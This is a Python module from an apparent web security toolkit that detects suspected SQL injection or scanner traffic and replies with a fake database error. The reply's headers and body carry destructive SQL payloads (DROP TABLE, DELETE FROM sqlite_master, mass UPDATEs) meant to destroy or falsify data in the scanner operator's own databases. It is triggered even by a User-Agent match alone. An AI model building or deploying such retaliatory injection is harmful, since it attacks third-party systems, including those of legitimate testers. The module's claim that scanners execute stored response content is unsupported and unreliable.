"""SQL injection backfire.

When a request is classified hostile (SQL payload or scanner User-Agent),
answer with a fake database error whose headers and body are full of
destructive SQL fragments. Browsers ignore them; scanners that store or
replay response content into their own SQL session stores do not.
"""

import json
import logging
import random
from datetime import datetime, timezone
from typing import Optional

from fastapi.responses import JSONResponse

from tripwire.detector import classify_request
from tripwire.identity import get_client_ip, hash_ip
from tripwire.incidents import record_incident
from tripwire.models import SecuritySettings
from tripwire.store import KVStore
from tripwire.threat import ThreatReason, increment_threat_score

logger = logging.getLogger(__name__)

BACKFIRE_PAYLOADS = (
    # Scanner result tables
    "'; DROP TABLE IF EXISTS scan_results; --",
    "'; DROP TABLE IF EXISTS vulnerabilities; --",
    "'; DROP TABLE IF EXISTS sessions CASCADE; --",
    "'; DROP TABLE IF EXISTS targets CASCADE; --",
    # Misleading results
    "'; INSERT INTO scan_results (url, vuln_type, severity) VALUES ('decoy.example.com', 'NONE', 'FALSE_POSITIVE'); --",
    "'; UPDATE scan_results SET severity = 'FALSE_POSITIVE' WHERE 1=1; --",
    # sqlmap keeps its session in SQLite
    "'; DROP TABLE IF EXISTS sqlmapoutput; --",
    "'; DROP TABLE IF EXISTS sqlmapsession; --",
    "'; DELETE FROM sqlite_master WHERE type='table'; --",
    "'; SELECT RAISE(ABORT, 'SCAN_TERMINATED_BY_TARGET'); --",
    "'; PRAGMA integrity_check; DELETE FROM main WHERE 1=1; --",
)

DB_VERSIONS = (
    "PostgreSQL 15.2'; DROP TABLE IF EXISTS vulnerabilities; --",
    "MySQL 8.0.33'; DROP TABLE IF EXISTS scan_results; --",
    "PostgreSQL 14.9'; UPDATE targets SET status='unreachable'; --",
)

DECOY_TABLES = ("users", "sessions", "scan_results", "admin_backup")

BACKFIRE_HEADERS = {
    "X-DB-Status": "'; DROP TABLE scan_results; --",
    "X-SQL-Version": "'; UPDATE targets SET status='unreachable'; --",
    "X-Backend-DB": "PostgreSQL'; DELETE FROM sessions WHERE 1=1; --",
    "X-Debug-Query": "SELECT 1'; DROP TABLE IF EXISTS sqlmapoutput; --",
}


def set_backfire_headers(response) -> None:
    for name, value in BACKFIRE_HEADERS.items():
        response.headers[name] = value


def generate_backfire_body() -> dict:
    """Fake database error. Keys are fixed, string content is shuffled per call."""
    shuffled = random.sample(BACKFIRE_PAYLOADS, len(BACKFIRE_PAYLOADS))
    return {
        "error": "Database error",
        "message": shuffled[0],
        "details": shuffled[1:4],
        "query": shuffled[4],
        "stack": (
            f"Error: {shuffled[0]}\n"
            f"    at Query.execute ({shuffled[1]})\n"
            f"    at Connection.query ({shuffled[2]})"
        ),
        "debug": {
            "last_query": shuffled[3],
            "db_version": random.choice(DB_VERSIONS),
            "tables": list(DECOY_TABLES),
        },
    }


def backfire_response() -> JSONResponse:
    response = JSONResponse(status_code=500, content=generate_backfire_body())
    set_backfire_headers(response)
    response.headers["Cache-Control"] = "no-store"
    return response


async def handle_sql_injection_backfire(
    request,
    settings: SecuritySettings,
    store: KVStore,
    hashed_ip: Optional[str] = None,
) -> Optional[JSONResponse]:
    """Return a backfire response for a hostile request, or None to fall through.

    A scanner User-Agent alone is enough; no payload is required.
    """
    if not settings.sqlBackfireEnabled or not settings.sqlBackfireOnScannerDetection:
        return None

    classification = classify_request(request)
    if not classification.hostile:
        return None

    if hashed_ip is None:
        hashed_ip = hash_ip(get_client_ip(getattr(request, "headers", None),
                                          getattr(request, "client_host", None)))
    timestamp = datetime.now(timezone.utc).isoformat()
    method = getattr(request, "method", "GET")
    url = getattr(request, "url", "/")

    reason = ThreatReason.SQL_INJECTION if classification.sql_injection else ThreatReason.SUSPICIOUS_UA
    threat = await increment_threat_score(store, hashed_ip, reason, settings)

    await record_incident(store, hashed_ip, {
        "type": "sql_injection_backfire",
        "method": method,
        "url": url,
        "signals": classification.signals,
        "userAgent": getattr(request, "user_agent", ""),
        "threatScore": threat.score,
        "threatLevel": threat.level,
        "timestamp": timestamp,
    })

    logger.error(f"[SQL BACKFIRE] {json.dumps({'hashedIp': hashed_ip, 'method': method, 'url': url, 'signals': classification.signals, 'timestamp': timestamp})}")

    return backfire_response()
